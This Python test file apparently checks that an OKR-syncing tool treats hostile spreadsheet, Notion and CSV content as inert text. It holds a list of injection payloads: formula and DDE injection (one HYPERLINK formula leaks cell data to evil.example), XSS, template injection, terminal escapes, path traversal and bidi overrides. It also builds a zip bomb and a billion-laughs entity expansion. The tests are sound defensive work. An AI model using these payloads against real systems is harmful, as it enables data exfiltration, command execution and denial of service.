"""What people, or worse ones, put into sheets is text everywhere it comes out, and nothing too
large or too deep takes more than its own source down.
"""

from __future__ import annotations

import csv
import io
import json
import unicodedata
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from company import TODAY, Company
from faults import at_once
from grids import in_part
from okrsync.cli import okrsync
from okrsync.cli.errors import run
from okrsync.sync import sync
from okrsync_sandbox.traffic import Fault
from team import write_workbook

pytestmark = pytest.mark.filterwarnings(
    "ignore:(Unknown|Conditional Formatting) extension:UserWarning:openpyxl"
)

HOSTILE = {
    "a formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "a command": "=cmd|' /C calc'!A0",
    "a sum": "+1+1",
    "an at sign": "@SUM(1+1)",
    "a minus": "-2+3+cmd",
    "a tab before a formula": "\t=1+1",
    "markup": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "an attribute": '" onmouseover="alert(1)',
    "a template": "{{7*7}} ${7*7} {% raw %} %(x)s {0}",
    "terminal markup": "[bold red]loud[/] [link=http://evil.example]x[/link]",
    "markdown": "[x](javascript:alert(1)) **b** ![i](http://evil.example/p.png)",
    "terminal orders": "\x1b]0;owned\x07\x1b[31mred\x1b[2J\x9b31m",
    "control characters": "a\x00b\x08c\x7fd\x85e",
    "direction overrides": "\u202egnp.exe\u2066x\u2069\u200f",
    "a path": "../../../../etc/passwd",
    "a name of a device": "CON",
    "an entity": "&lt;b&gt; ]]> <!-- x --> &xxe;",
    "a break": "one\r\ntwo\u2028three",
    "half a sign": "\ud83d alone",
    "a long word": "long" * 20_000,
    "emoji": "👩‍👩‍👧‍👦 🏴󠁧󠁢󠁥󠁮󠁧󠁿 e\u0301\u0301\u0301",
}
COMMANDS = [
    ["show"],
    ["plan"],
    ["check"],
    ["history"],
    ["sync"],
    ["plan", "--json"],
    ["show", "--json"],
    ["mappings"],
]


@pytest.fixture
def acme(tmp_path: Path) -> Iterator[Company]:
    with Company(tmp_path) as made, at_once():
        yield made


def _storable(text: str) -> str:
    """A text as a workbook can hold it: XML knows no control characters and no half signs."""
    return "".join(
        sign for sign in text if sign in "\t\n\r" or unicodedata.category(sign) not in ("Cc", "Cs")
    )


def _poison(acme: Company, text: str) -> None:
    """Put a text into every kind of place that is read: titles, owners, tab names, notes,
    headers.
    """
    whole = _storable(text)
    # A person who types such a text gets it as text; a formula is what the spreadsheet makes of
    # one.
    acme.mia.put(acme.care, "Q4", "A2", f"'{whole}" if whole.startswith("=") else whole)
    acme.mia.put(acme.care, "Q4", "B2", f"KR {whole}")
    acme.mia.put(acme.growth, "Q4", "C2", f"Mia {whole}"[:40_000])
    page = acme.ada.rows(acme.database_source)[0]
    acme.ada.edit(page, {"Objective": whole[:1900], "Owner": whole[:1900]})
    write_workbook(
        acme.folder / "ops.xlsx",
        [
            [
                "Objective",
                "Key result",
                "Owner",
                "Baseline",
                "Current",
                "Target",
                whole[:200].lstrip("=") or "x",
            ],
            [whole[:30_000], f"KR {whole[:30_000]}", whole[:30_000], 0, 5, 10, None],
            ["Plain", "Also plain", "Kim", 0, whole[:30_000], 10, whole[:30_000]],
        ],
        "Ops",
    )
    stream = io.StringIO(newline="")
    writer = csv.writer(stream)
    writer.writerow(["Objective", "Key result", "Start", "Current", "Target"])
    writer.writerow([text.replace("\x00", ""), "New " + text.replace("\x00", ""), 0, 12, 40])
    (acme.folder / "sales.csv").write_bytes(stream.getvalue().encode("utf-8", "replace"))


def _printed(acme: Company, capsys: pytest.CaptureFixture[str], *arguments: str) -> str:
    capsys.readouterr()
    code = run(
        okrsync,
        ["--config", str(acme.folder / "okrsync.toml"), "--as-of", TODAY.isoformat(), *arguments],
    )
    out, err = capsys.readouterr()
    assert "should not have happened" not in err, err
    assert code in (0, 2, 3), (code, err)
    return out + err


def _is_harmless(text: str) -> bool:
    """Whether a terminal takes nothing in a text for an order, and nobody reads it the other way
    round.
    """
    return not any(
        (unicodedata.category(sign) in ("Cc", "Cs") and sign != "\n")
        or sign in "\u202e\u202d\u2066\u2067\u200f"
        for sign in text
    )


@pytest.mark.parametrize("case", in_part(HOSTILE, every=11))
def test_hostile_text_is_text_wherever_it_comes_out(
    acme: Company, capsys: pytest.CaptureFixture[str], case: str
) -> None:
    _poison(acme, HOSTILE[case])
    ours = {"Progress", "Status", "okrsync note", "Health", "Note"}
    for command in COMMANDS:
        printed = _printed(acme, capsys, *command)
        if "--json" in command:
            json.loads(printed)
        else:
            assert _is_harmless(printed), command
    for file_id in (acme.growth, acme.care):
        for sheet in acme.mia.book(file_id).sheets:
            header = [cell.value for cell in sheet.rows[0]] if sheet.rows else []
            for line in sheet.rows:
                for column, cell in enumerate(line):
                    if sheet.title != "Q4" or (column < len(header) and header[column] in ours):
                        assert cell.formula is None, (sheet.title, cell)
    book = openpyxl.load_workbook(acme.folder / "ops.xlsx")
    for tab in book.worksheets:
        names = [cell.value for cell in tab[1]]
        for row in tab.iter_rows():
            for written, name in zip(row, [*names, *[None] * len(row)], strict=False):
                if tab.title != "Ops" or name in ours:
                    assert written.data_type != "f", written
    rows = list(
        csv.reader(
            io.StringIO((acme.folder / "sales.csv").read_text(encoding="utf-8", errors="replace"))
        )
    )
    assert all(not cell.startswith(("=", "+", "-", "@", "\t")) for row in rows for cell in row[5:])
    assert {"notion-token", "okrsync.toml", "ops.xlsx", "sales.csv", "service-account.json"} == {
        path.name for path in acme.folder.iterdir() if not path.name.startswith((".", "okrsync.db"))
    }
    again = sync(acme.config, as_of=TODAY)
    assert not any(change.outcome == "written" for part in again.parts for change in part.changes)


def _bomb(path: Path, sheet: bytes, size: int | None = None) -> None:
    """A workbook whose sheet is this; it says that it unpacks to `size`, if that is given."""
    write_workbook(path, [["Objective", "Key result"], ["Grow", "Sign-ups"]], "Ops")
    whole = zipfile.ZipFile(path)
    parts = {name: whole.read(name) for name in whole.namelist()}
    whole.close()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as made:
        for name, content in parts.items():
            made.writestr(name, sheet if name == "xl/worksheets/sheet1.xml" else content)
        if size is not None:
            made.getinfo("xl/worksheets/sheet1.xml").file_size = size


def test_a_workbook_that_unpacks_to_gigabytes_is_refused_before_it_is_unpacked(
    acme: Company,
) -> None:
    _bomb(
        acme.folder / "ops.xlsx",
        b"<worksheet><sheetData>" + b" " * 1_000 + b"</sheetData></worksheet>",
        size=600 << 20,
    )
    done = acme.sync()
    ops = next(part for part in done.sources if part.name == "ops")
    assert (ops.state, done.exit_code) == ("failed", 3)
    assert "unpacks to" in (ops.error or "")


def test_a_workbook_that_multiplies_entities_is_refused(acme: Company) -> None:
    laughs = b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 12))
    _bomb(
        acme.folder / "ops.xlsx",
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha">'
        + laughs
        + b']><worksheet><sheetData><row r="1">'
        b'<c r="A1" t="inlineStr"><is><t>&l11;</t></is></c></row></sheetData></worksheet>',
    )
    done = acme.sync()
    ops = next(part for part in done.sources if part.name == "ops")
    assert done.exit_code in (0, 3)
    assert not any("haha" in str(change.after) for change in ops.changes)


@pytest.mark.parametrize("service", ["google", "notion"])
def test_an_answer_of_a_hundred_thousand_brackets_spoils_one_source(
    acme: Company, service: str
) -> None:
    deep = b"[" * 100_000 + b"]" * 100_000
    traffic = acme.google.traffic if service == "google" else acme.notion.traffic
    traffic.fail(Fault(lambda call: call.kind == "read", times=10**6, body=deep))
    done = acme.sync()
    states: dict[str, Any] = {part.name: part.state for part in done.sources}
    assert (states["ops"], states["sales"]) == ("ok", "ok")
    assert states["growth" if service == "google" else "company"] == "failed"
    assert done.exit_code == 3
